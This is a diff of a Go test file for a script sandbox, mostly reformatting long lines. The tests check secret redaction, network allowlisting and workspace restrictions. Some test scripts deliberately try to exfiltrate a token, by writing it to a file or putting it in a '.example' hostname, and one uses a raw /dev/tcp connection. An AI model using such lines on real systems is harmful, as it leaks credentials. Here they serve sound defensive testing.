@@ -36,9 +36,8 @@ func granting(t *testing.T, entry policy.Entry, body string) *bench {
 	if err != nil {
 		t.Fatal(err)
 	}
-	b.cfg.Policy = policy.New(policy.Config{Role: policy.DirectCommand, Allowlist: allowed,
-		Release: policy.ReleaseObserved,
-		Tools:   []string{"load_skill", "run_skill_script", "resources/read"}})
+	b.cfg.Policy = policy.New(policy.Config{Role: policy.DirectCommand, Allowlist: allowed, Release: policy.ReleaseObserved,
+		Tools: []string{"load_skill", "run_skill_script", "resources/read"}})
 	b.cfg.Runner = func(context.Context) (sandbox.Runner, error) { return native.New(nil), nil }
 	b.cfg.Interpreter = func(_ context.Context, name string) (*sandbox.Interpreter, error) {
 		path, err := filepath.EvalSymlinks("/usr/bin/" + name)
@@ -64,8 +63,7 @@ func granting(t *testing.T, entry policy.Entry, body string) *bench {
 // everything is what of a run anyone could read afterwards: the answer and every file kept.
 func (b *bench) everything(result *RunResult) string {
 	b.t.Helper()
-	all := result.Stdout.Head + result.Stdout.Tail + result.Stderr.Head + result.Stderr.Tail +
-		string(encode(result.Output))
+	all := result.Stdout.Head + result.Stdout.Tail + result.Stderr.Head + result.Stderr.Tail + string(encode(result.Output))
 	for _, out := range result.Out {
 		all += out.Name
 	}
@@ -104,9 +102,7 @@ func TestSecretsOfScripts(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\n"+body+"\n")
 			ses, call := b.call("run_skill_script")
-			result, err := ses.RunScript(t.Context(),
-				RunRequest{Call: call, Skill: "demo", Path: "scripts/ok.sh",
-					Args: []string{"--token", theSecret}})
+			result, err := ses.RunScript(t.Context(), RunRequest{Call: call, Skill: "demo", Path: "scripts/ok.sh", Args: []string{"--token", theSecret}})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -122,8 +118,7 @@ func TestSecretsOfScripts(t *testing.T) {
 			if !strings.Contains(all, "[secret TOKEN]") {
 				t.Errorf("nothing says that a secret was there:\n%.2000s", all)
 			}
-			if x := result.Output.Skillsd; !x.Stdout.Redacted || strings.HasSuffix(name, "binary file") &&
-				(len(x.Out) != 1 || x.Out[0].Withheld == "" || x.Out[0].URI != "") {
+			if x := result.Output.Skillsd; !x.Stdout.Redacted || strings.HasSuffix(name, "binary file") && (len(x.Out) != 1 || x.Out[0].Withheld == "" || x.Out[0].URI != "") {
 				t.Errorf("the record does not say so: %+v", x)
 			}
 			if slices.Contains(b.ArtifactNames(t.Context(), call), "") {
@@ -142,8 +137,7 @@ func TestMissingVariables(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			b := granting(t, entry, "#!/bin/sh\nenv\n")
 			_, err := b.run("demo", "scripts/ok.sh")
-			if code(err) != "env_denied" || !strings.Contains(err.Error(), "MISSING") ||
-				strings.Contains(err.Error(), "/host/path") {
+			if code(err) != "env_denied" || !strings.Contains(err.Error(), "MISSING") || strings.Contains(err.Error(), "/host/path") {
 				t.Errorf("RunScript = %v, want env_denied that names it and no path", err)
 			}
 			if events := b.events(); !strings.HasSuffix(events, "script_executed") {
@@ -160,8 +154,7 @@ func TestMissingVariables(t *testing.T) {
 func TestShortSecret(t *testing.T) {
 	b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\n")
 	b.cfg.Secret = func(string) (string, error) { return "abc", nil }
-	if err := b.CheckEntries(t.Context()); err == nil || !errors.Is(err, redact.ErrSize) ||
-		strings.Contains(err.Error(), "abc") {
+	if err := b.CheckEntries(t.Context()); err == nil || !errors.Is(err, redact.ErrSize) || strings.Contains(err.Error(), "abc") {
 		t.Errorf("CheckEntries = %v, want %v", err, redact.ErrSize)
 	}
 	if _, err := b.run("demo", "scripts/ok.sh"); code(err) != "env_denied" {
@@ -171,8 +164,7 @@ func TestShortSecret(t *testing.T) {
 
 // What the configuration lets through as a host is one for the proxy, or the server does not start.
 func TestHostsOfEntries(t *testing.T) {
-	for _, host := range []string{"a.example", "a.example:80", "10.0.0.1", "10.0.0.1:80", "::1", "[::1]:80",
-		"localhost:8080", "a_b.example", "1.2.3.4a", "a.1", "::ffff:1.2.3.4"} {
+	for _, host := range []string{"a.example", "a.example:80", "10.0.0.1", "10.0.0.1:80", "::1", "[::1]:80", "localhost:8080", "a_b.example", "1.2.3.4a", "a.1", "::ffff:1.2.3.4"} {
 		entry := policy.Entry{Skill: "demo", Path: "scripts/ok.sh", Network: []string{host}}
 		allowed, err := policy.NewAllowlist([]policy.Entry{entry})
 		if err != nil {
@@ -189,8 +181,7 @@ func TestHostsOfEntries(t *testing.T) {
 
 // An entry's workspace, time and memory only narrow what the operator grants to all.
 func TestEntryNarrows(t *testing.T) {
-	modes := []sandbox.WorkspaceMode{"", sandbox.WorkspaceNone, sandbox.WorkspaceRO, sandbox.WorkspaceStaged,
-		sandbox.WorkspaceRW}
+	modes := []sandbox.WorkspaceMode{"", sandbox.WorkspaceNone, sandbox.WorkspaceRO, sandbox.WorkspaceStaged, sandbox.WorkspaceRW}
 	for _, granted := range modes {
 		for _, asked := range modes {
 			got := narrower(granted, policy.Entry{Workspace: string(asked)})
@@ -212,8 +203,7 @@ func TestEntryNarrows(t *testing.T) {
 	} {
 		s.cfg.Limits.Timeout = tt.server
 		if got := s.limits(tt.call, policy.Entry{Timeout: tt.entry}).Timeout; got != tt.want {
-			t.Errorf("timeout(server %v, entry %v, call %v) = %v, want %v", tt.server, tt.entry, tt.call, got,
-				tt.want)
+			t.Errorf("timeout(server %v, entry %v, call %v) = %v, want %v", tt.server, tt.entry, tt.call, got, tt.want)
 		}
 	}
 	if got := s.limits(0, policy.Entry{Memory: 1 << 40}).Memory; got != sandbox.DefaultLimits().Memory {
@@ -232,8 +222,7 @@ func TestEntryWorkspace(t *testing.T) {
 	for _, tt := range []struct{ entry, sees, records string }{
 		{"", "/workspace there", "rw"}, {"ro", "/workspace there", "ro"}, {"none", "/out", "none"},
 	} {
-		b := granting(t, policy.Entry{Workspace: tt.entry},
-			"#!/bin/sh\necho $(pwd) $(ls /workspace 2>/dev/null)\ntouch /workspace/new 2>/dev/null\n")
+		b := granting(t, policy.Entry{Workspace: tt.entry}, "#!/bin/sh\necho $(pwd) $(ls /workspace 2>/dev/null)\ntouch /workspace/new 2>/dev/null\n")
 		handle, err := os.Open(dir)
 		if err != nil {
 			t.Fatal(err)
@@ -248,11 +237,9 @@ func TestEntryWorkspace(t *testing.T) {
 			t.Fatal(err)
 		}
 		_, err = os.Stat(filepath.Join(dir, "new"))
-		if written := !errors.Is(err, fs.ErrNotExist); result.Stdout.Head != tt.sees+"\n" ||
-			result.Output.Skillsd.Workspace != tt.records ||
+		if written := !errors.Is(err, fs.ErrNotExist); result.Stdout.Head != tt.sees+"\n" || result.Output.Skillsd.Workspace != tt.records ||
 			!strings.HasPrefix(tt.sees, result.Output.CWD) || written != (tt.entry == "") {
-			t.Errorf("workspace %q: printed %q, recorded %q at %q, written %v", tt.entry, result.Stdout.Head,
-				result.Output.Skillsd.Workspace, result.Output.CWD, written)
+			t.Errorf("workspace %q: printed %q, recorded %q at %q, written %v", tt.entry, result.Stdout.Head, result.Output.Skillsd.Workspace, result.Output.CWD, written)
 		}
 		os.Remove(filepath.Join(dir, "new"))
 	}
@@ -269,8 +256,7 @@ func TestStagedSecretIsWithheld(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer handle.Close()
-	b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}},
-		"#!/bin/sh\necho \"key: $TOKEN\" >leaked\necho fine >written\n")
+	b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\necho \"key: $TOKEN\" >leaked\necho fine >written\n")
 	b.cfg.Secret = func(string) (string, error) { return "quite-secret-value", nil }
 	b.cfg.Workspace = sandbox.Workspace{Mode: sandbox.WorkspaceStaged, Dir: handle}
 	result, err := b.run("demo", "scripts/ok.sh")
@@ -284,8 +270,7 @@ func TestStagedSecretIsWithheld(t *testing.T) {
 	_, leaked := os.Stat(filepath.Join(dir, "leaked"))
 	_, written := os.Stat(filepath.Join(dir, "written"))
 	if refused["leaked"] != "holds a secret" || refused["written"] != "" || leaked == nil || written != nil {
-		t.Errorf("writes %v; leaked: %v, written: %v; stderr %s", refused, leaked, written,
-			result.Stderr.Head)
+		t.Errorf("writes %v; leaked: %v, written: %v; stderr %s", refused, leaked, written, result.Stderr.Head)
 	}
 }
 
@@ -316,12 +301,10 @@ for url in sys.argv[1], "http://" + os.environ["TOKEN"].lower() + ".example/", "
     except urllib.error.HTTPError as e:
         print(e.code)
 `
-	b := granting(t, policy.Entry{Network: []string{addr}, Secrets: []string{"TOKEN"}},
-		"#!/usr/bin/python3\n"+body)
+	b := granting(t, policy.Entry{Network: []string{addr}, Secrets: []string{"TOKEN"}}, "#!/usr/bin/python3\n"+body)
 	b.cfg.Secret = func(string) (string, error) { return "quite-secret-name", nil }
 	ses, call := b.call("run_skill_script")
-	result, err := ses.RunScript(t.Context(),
-		RunRequest{Call: call, Skill: "demo", Path: "scripts/ok.sh", Args: []string{"http://" + addr}})
+	result, err := ses.RunScript(t.Context(), RunRequest{Call: call, Skill: "demo", Path: "scripts/ok.sh", Args: []string{"http://" + addr}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -329,10 +312,8 @@ for url in sys.argv[1], "http://" + os.environ["TOKEN"].lower() + ".example/", "
 		t.Errorf("the script printed %q, want %q; stderr %s", result.Stdout.Head, want, result.Stderr.Head)
 	}
 	x := result.Output.Skillsd
-	if x.Network != addr || len(x.Connections) != 3 || x.Connections[0].Address != addr ||
-		x.Connections[0].Received == 0 ||
-		x.Connections[1].Host != "[secret TOKEN].example" || x.Connections[1].Refused != "not-listed" ||
-		x.Connections[2].Refused != "not-listed" {
+	if x.Network != addr || len(x.Connections) != 3 || x.Connections[0].Address != addr || x.Connections[0].Received == 0 ||
+		x.Connections[1].Host != "[secret TOKEN].example" || x.Connections[1].Refused != "not-listed" || x.Connections[2].Refused != "not-listed" {
 		t.Errorf("recorded %q, %+v", x.Network, x.Connections)
 	}
 	if strings.Contains(b.everything(result), "quite-secret-name") {
@@ -342,10 +323,8 @@ for url in sys.argv[1], "http://" + os.environ["TOKEN"].lower() + ".example/", "
 
 // What a script asked for is its own words, and stays as opaque as its output.
 func TestOpaqueNetwork(t *testing.T) {
-	body := "#!/bin/sh\n(exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT told.example:443 " +
-		"HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3)\n"
-	b := granting(t, policy.Entry{Network: []string{"a.example"}, Release: policy.ReleaseOpaque},
-		strings.Replace(body, "sh", "bash", 1))
+	body := "#!/bin/sh\n(exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT told.example:443 HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3)\n"
+	b := granting(t, policy.Entry{Network: []string{"a.example"}, Release: policy.ReleaseOpaque}, strings.Replace(body, "sh", "bash", 1))
 	result, err := b.run("demo", "scripts/ok.sh")
 	if err != nil {
 		t.Fatal(err)
